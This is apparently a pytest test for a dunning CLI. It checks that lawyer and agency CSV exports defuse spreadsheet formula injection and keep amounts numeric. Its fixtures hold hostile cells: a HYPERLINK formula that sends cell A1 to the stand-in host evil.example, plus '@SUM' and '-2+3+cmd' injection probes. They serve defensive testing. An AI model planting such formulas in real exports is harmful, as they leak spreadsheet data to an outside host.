"""Agency and lawyer exports never carry a live spreadsheet formula, through ``dunning notify``."""

from __future__ import annotations

import csv
import io
from pathlib import Path

from click.testing import CliRunner

from dunning.cli import EXIT_OK, cli
from dunning.store import Store
from tests.usecases.notify import helpers
from tests.usecases.notify.helpers import HEADER, import_and_plan, make_workspace

EVIL_NAME = '=HYPERLINK("http://evil.example/?"&A1;"Marie")'
EVIL_ROWS = [
    helpers.ROWS[0],
    helpers.ROWS[1],
    'E2,"=HYPERLINK(""http://evil.example/?""&A1;""Marie"")",person,fr,@SUM(1+1),1040,-2+3+cmd,BE,'
    "marie@example.be,,,energy,INV-2026-00003,2026-09-01,2026-10-01,200.00,150.50,EUR,Energy",
    "E2,x,person,fr,Rue de la Loi 44,1040,Etterbeek,BE,marie@example.be,,,energy,"
    "INV-2026-00004,2026-09-01,2026-10-01,-20.00,-20.00,EUR,Credit note",
]


def test_export_cells_that_would_run_are_neutralised_and_amounts_stay_numbers(
    tmp_path: Path, store: Store, store_url: str
) -> None:
    workspace = make_workspace(tmp_path / "ws", store_url)
    (workspace.root / "ledger" / "test.csv").write_text("\n".join([HEADER, *EVIL_ROWS]) + "\n", encoding="utf-8")
    import_and_plan(store, workspace)

    result = CliRunner().invoke(cli, ["-w", str(workspace.root), "notify", "--date", "2026-10-20"])
    assert result.exit_code == EXIT_OK, result.output

    [lawyer] = (workspace.root / "output" / "exports" / "2026-10-20").glob("escalate_to_legal-*.csv")
    rows = list(csv.DictReader(io.StringIO(lawyer.read_text(encoding="utf-8"))))
    assert {r["name"] for r in rows} == {"'" + EVIL_NAME}
    assert {r["street"] for r in rows} == {"'@SUM(1+1)"} and {r["city"] for r in rows} == {"'-2+3+cmd"}
    assert sorted(r["open_amount"] for r in rows) == ["-20.00", "150.50"]  # numbers, not text
    assert {r["total"] for r in rows} == {"130.50"}
